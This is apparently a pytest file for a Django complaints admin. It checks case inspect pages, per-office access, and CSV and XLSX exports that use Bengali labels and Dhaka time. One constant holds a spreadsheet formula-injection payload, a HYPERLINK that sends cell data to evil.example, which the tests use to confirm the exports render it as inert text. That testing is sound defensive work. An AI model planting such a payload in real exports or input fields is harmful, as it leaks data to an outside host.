"""The complaints' CaseViewSet: the inspect page (the case, its open task, its history), its access rule,
and exports that are safe to open (labels, Dhaka time, BOM, no live formulas)."""

import csv
import datetime
import io
import zoneinfo

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.factories import make_user
from workflows.complaints import roles as complaint_roles
from workflows.complaints.models import Complaint
from workflows.core.models import Post, PostHolding

from .test_process import file_complaint, open_route, signed_in

pytestmark = pytest.mark.django_db

HOSTILE_SUBJECT = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_inspect_page_shows_the_case_its_open_task_and_history(chattogram, gro, private_root):
    complaint = file_complaint(Client(), chattogram, subject="সনদের জন্য অপেক্ষা")
    route = open_route(complaint)
    page = signed_in(gro).get(f"/admin/workflows/complaints/{complaint.pk}/")
    assert page.status_code == 200
    assert "সনদের জন্য অপেক্ষা" in page.text
    assert f"/admin/workflows/tasks/{route.pk}/" in page.text  # the link to the open task
    assert "অভিযোগ দাখিল হয়েছে" in page.text  # the history, in words: "Complaint filed"
    assert complaint.tracking_number in page.text


def test_list_links_each_case_to_its_inspect_page(chattogram, gro, private_root):
    complaint = file_complaint(Client(), chattogram)
    listing = signed_in(gro).get("/admin/workflows/complaints/")
    assert f"/admin/workflows/complaints/{complaint.pk}/" in listing.text


def test_inspect_page_and_attachments_of_another_office_are_404(chattogram, private_root):
    complaint = file_complaint(Client(), chattogram)
    outsider = make_user("khulna-inspect", groups=["Officers"])
    PostHolding.objects.create(
        user=outsider, post=Post.objects.get(office__code="dlo-khulna", role=complaint_roles.GRIEVANCE_REDRESS_OFFICER)
    )
    client = signed_in(outsider)
    assert client.get(f"/admin/workflows/complaints/{complaint.pk}/").status_code == 404
    assert client.get("/admin/workflows/complaints/999999999/").status_code == 404


def test_due_dates_in_the_list_are_dates_not_time_ago(chattogram, gro, private_root):
    file_complaint(Client(), chattogram)
    listing = signed_in(gro).get("/admin/workflows/complaints/")
    assert "মিনিট আগে" not in listing.text  # "minutes ago" for a date to come


def _export(client, fmt, **params):
    response = client.get("/admin/workflows/complaints/", {"export": fmt, **params})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_export_neutralises_formulas_and_uses_labels_dhaka_time_and_a_bom(chattogram, gro, private_root):
    complaint = file_complaint(Client(), chattogram, subject=HOSTILE_SUBJECT)
    content = _export(signed_in(gro), "csv")
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header, row = rows[0], next(r for r in rows if r[0] == complaint.tracking_number)
    assert row[header.index("বিষয়বস্তু")] == "'" + HOSTILE_SUBJECT  # text, not a live formula
    assert row[header.index("অবস্থা")] == str(Complaint.Status.SUBMITTED.label) != "submitted"
    dhaka = complaint.submitted_at.astimezone(zoneinfo.ZoneInfo("Asia/Dhaka"))
    assert row[header.index("দাখিলের সময়")] == dhaka.strftime("%Y-%m-%d %H:%M")
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_export_writes_formulas_as_text_and_times_in_dhaka(chattogram, gro, private_root):
    complaint = file_complaint(Client(), chattogram, subject=HOSTILE_SUBJECT)
    sheet = load_workbook(io.BytesIO(_export(signed_in(gro), "xlsx"))).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    row = next(r for r in rows if r[0].value == complaint.tracking_number)
    subject = row[header.index("বিষয়বস্তু")]
    assert (subject.value, subject.data_type) == (HOSTILE_SUBJECT, "s")
    submitted = row[header.index("দাখিলের সময়")].value
    dhaka = complaint.submitted_at.astimezone(zoneinfo.ZoneInfo("Asia/Dhaka")).replace(tzinfo=None)
    assert abs(submitted - dhaka) < datetime.timedelta(seconds=1)
    assert row[header.index("অবস্থা")].value == str(Complaint.Status.SUBMITTED.label)
